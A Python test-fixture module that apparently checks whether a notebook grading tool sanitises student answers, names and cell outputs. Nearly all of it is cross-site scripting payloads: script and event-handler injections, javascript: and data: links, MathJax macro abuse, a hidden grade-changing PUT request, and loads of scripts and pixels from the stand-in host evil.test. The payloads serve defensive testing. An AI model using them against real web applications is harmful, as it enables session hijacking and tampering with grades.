"""Written answers, names and outputs that would act on the page of whoever reads them."""
from __future__ import annotations

import base64

RAN = "window.name='ran';alert('ran')"
PUT = ("fetch('/formgrader/api/grade/1',{method:'PUT',body:'{}'});" + RAN)
PNG = ("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==")
SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RAN}"><script>{RAN}</script></svg>'
PAGE = base64.b64encode(f"<script>{RAN}</script>".encode()).decode()
ENTITIES = "".join(f"&#{ord(letter)};" for letter in "javascript:")
HONEST = """The gradient is **averaged** over the examples: $\\frac1m \\sum_i a_i < b$, and

$$dW = \\frac{1}{m}\\, dZ A^T$$

\\begin{align}a &= b \\\\ c &= d\\end{align}

1. first, `x < y`
2. second

```java
if (m < 2) return;

dW = dZ;
```

| shape | of |
|:-|-:|
| (n, m) | dZ |

See [the lecture](https://en.wikipedia.org/wiki/Backpropagation)."""

MARKUP = f"""<script>{PUT}</script><SCRIPT SRC=http://evil.test/x.js></SCRIPT>
<img src=x onerror="{RAN}"><div onclick="{RAN}" onmouseover="{RAN}">click</div><details open ontoggle="{RAN}">x</details>
<svg onload="{RAN}"><script>{RAN}</script><animate onbegin="{RAN}" attributeName=x dur=1s></svg>
<iframe src="javascript:{RAN}"></iframe><iframe srcdoc="<script>{RAN}</script>"></iframe>
<object data="javascript:{RAN}"></object><embed src="data:text/html;base64,{PAGE}"><base href="http://evil.test/">
<meta http-equiv="refresh" content="0;url=http://evil.test/"><link rel=stylesheet href=http://evil.test/x.css>
<form action="http://evil.test/" id=f><input autofocus onfocus="{RAN}"><button formaction="javascript:{RAN}">go</button></form>
<style>@import url(http://evil.test/x.css); body {{ background: url(http://evil.test/x.png) }}</style>
<div style="position:fixed;top:0;left:0;width:9999px;height:9999px;background:url(http://evil.test/y.png)">over</div>
<script type="text/x-mathjax-config">{RAN}</script><button class="full-credit" id="two-differences">x</button>
<img src="http://evil.test/pixel.png"><img src="/logout"><video src=x onerror="{RAN}"></video><body onload="{RAN}">

    <b>code</b>

<p
onclick="{RAN}">two lines</p> <a href="&#106;avascript:{RAN}">x</a> <svg></p><style><a id="</style><img src=x onerror={RAN}>">

<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={RAN}&gt;"></math>"""

LINKS = f"""[a](javascript:{RAN.replace("'", "%27")}) [b]( JaVaScRiPt:alert(1)) [c]({ENTITIES}alert(1)) [d](data:text/html;base64,{PAGE})
[e](vbscript:alert(1)) [f][ref] <javascript:alert(1)> ![g](javascript:alert(1)) ![h](data:image/svg+xml;base64,{PAGE})
[i](java\tscript:alert(1)) [j](&#x6A;avascript&colon;alert(1)) [k](/logout) [l](//evil.test/) [m](http://localhost:8888/logout)
[n](http://127.0.0.1/logout) [o](\\x01javascript:alert(1)) [p](file:///etc/passwd) [q](blob:x) <a href="x" href="javascript:alert(1)">r</a>
![s](x" onerror="{RAN}) [t](x "title\\" onclick=\\"{RAN}") ![u](attachment:evil.svg) ![v](attachment:evil.png)

[ref]: javascript:alert(1)
"""

FORMULAS = f"""$\\href{{javascript:{RAN}}}{{x}}$ $\\unicode{{x41}}$ $\\require{{HTML}}$ $\\style{{position:fixed;top:0}}{{y}}$
$\\class{{full-credit}}{{z}}$ $\\cssId{{f}}{{z}}$ $\\bbox[url(http://evil.test/)]{{w}}$ $\\def\\a{{\\a\\a}}\\a$
$\\newcommand{{\\b}}{{\\href{{javascript:alert(1)}}{{q}}}}\\b$ $\\mmlToken{{mi}}[href="javascript:alert(1)"]{{x}}$
$<img src=x onerror="{RAN}">$ $$<script>{RAN}</script>$$ \\\\(\\href{{javascript:alert(1)}}{{x}}\\\\)
$\\text{{<img src=x onerror="{RAN}">}}$ $a\\\\\\href{{javascript:alert(1)}}{{x}}$ $\\includegraphics{{http://evil.test/z.png}}$
\\begin{{align}}\\href{{javascript:alert(1)}}{{x}} &= <svg onload="{RAN}"> \\rule{{9999em}}{{9999em}}\\end{{align}}
`` $\\href{{javascript:alert(1)}}{{x}}$ ``

$$a
</p></div><script>{RAN}</script>$$"""

STUDENTS = {"ada": HONEST, "markup": MARKUP, "links": LINKS, "formulas": FORMULAS}
NAMES = {"ada": "Ada Lovelace", "markup": f"Eve <img src=x onerror={RAN}>", "links": "\" onmouseover=\"alert(1) O'Neil",
         "formulas": "$\\href{javascript:alert(1)}{x}$ Mallory"}
OUTPUTS = [
    {"output_type": "display_data", "metadata": {"text/html": {"isolated": True}}, "data": {"text/html": MARKUP}},
    {"output_type": "display_data", "metadata": {}, "data": {"image/svg+xml": SVG}},
    {"output_type": "display_data", "metadata": {}, "data": {"application/javascript": RAN}},
    {"output_type": "display_data", "metadata": {}, "data": {"text/markdown": MARKUP}},
    {"output_type": "display_data", "metadata": {}, "data": {"text/latex": FORMULAS}},
    {"output_type": "display_data", "metadata": {}, "data": {"application/vnd.jupyter.widget-view+json": {"model_id": SVG}}},
    {"output_type": "display_data", "metadata": {"image/png": {"width": f"1 onerror={RAN}"}},
     "data": {"image/png": f'x" onerror="{RAN}'}},
    {"output_type": "display_data", "metadata": {"image/png": {"alt": SVG, "width": f"1 onload={RAN}"}}, "data": {"image/png": PNG}},
    {"output_type": "execute_result", "execution_count": 1, "metadata": {}, "data": {"text/plain": SVG}},
    {"output_type": "stream", "name": SVG, "text": f"\x1b[31m{SVG}"},
    {"output_type": "error", "ename": SVG, "evalue": SVG, "traceback": [SVG]},
]
ATTACHMENTS = {"evil.svg": {"image/svg+xml": base64.b64encode(SVG.encode()).decode()},
               "evil.png": {"image/png": base64.b64encode(SVG.encode()).decode()}, "good.png": {"image/png": PNG},
               SVG: {"text/html": PAGE}}
